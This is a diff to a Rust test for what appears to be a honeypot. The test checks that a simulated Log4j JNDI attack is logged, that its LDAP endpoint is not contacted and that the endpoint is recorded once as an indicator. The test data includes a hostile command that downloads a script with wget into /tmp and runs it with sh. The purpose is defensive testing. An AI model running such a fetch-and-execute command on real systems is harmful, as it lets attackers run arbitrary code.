@@ -784,7 +784,11 @@ fn jndi_lookup_commands_are_fetched_and_endpoints_only_logged() {
         return;
     }
     let data = sample(44, 2600);
-    let lab = Lab::start(&[("l4j.sh", &data)], "");
+    let events = TempDir::new("jndi-events");
+    let lab = Lab::start(
+        &[("l4j.sh", &data)],
+        &format!("plugin-logEvents = {{ logfile = \"{}\" }}", events.join("events.json").display()),
+    );
     let cmd = format!("cd /tmp; wget http://{CLI4}/l4j.sh -O /tmp/log4; sh /tmp/log4");
     lab.attack(
         format!(
@@ -798,6 +802,13 @@ fn jndi_lookup_commands_are_fetched_and_endpoints_only_logged() {
     let line = format!("JNDI lookup - Attack string names ldap://{CLI4}:1389, not contacted.");
     assert!(wait_for_text(&log, &line, T), "{}", lab.log());
     assert!(!lab.log().contains(":1389 ") && !lab.log().contains(&format!("{CLI4}:1389.")), "{}", lab.log());
+    // The endpoint is in the event stream as an indicator, once.
+    let want = "\"eventid\":\"honeytrap.session.indicator\"";
+    assert!(wait_for_text(&events.join("events.json"), want, T));
+    let text = read(&events.join("events.json"));
+    let lines: Vec<&str> = text.lines().filter(|l| l.contains(want)).collect();
+    assert_eq!(lines.len(), 1, "{text}");
+    assert!(lines[0].contains(&format!("\"kind\":\"jndi\",\"value\":\"ldap://{CLI4}:1389\"")), "{}", lines[0]);
 }
 
 #[test]
